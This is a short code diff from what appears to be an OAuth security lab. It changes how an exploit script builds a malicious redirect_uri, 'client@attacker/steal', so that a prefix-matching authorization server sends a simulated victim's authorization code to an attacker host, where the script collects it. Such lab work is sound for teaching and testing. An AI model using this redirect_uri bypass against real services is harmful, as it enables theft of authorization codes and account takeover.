@@ -3,7 +3,7 @@
 me = httpx.Client(trust_env=False)
 request = query_of(me.get(f"{lab.flow.client.url}/login").headers["location"])
 # Prefix matching: 'http://client:port@attacker:port/steal' starts with the client's origin, and goes to the attacker.
-request["redirect_uri"] = lab.flow.client.url + "@" + lab.flow.attacker.url.removeprefix("http://") + "/steal"
+request["redirect_uri"] = lab.flow.client.origin + "@" + lab.flow.attacker.url.removeprefix("http://") + "/steal"
 link = f"{lab.flow.as_.url}/authorize?{urlencode(request)}"
 lab.flow.victim.visit(link)                                   # alice clicks the link: her code lands on your site
 stolen = lab.flow.attacker.received[-1].params["code"]
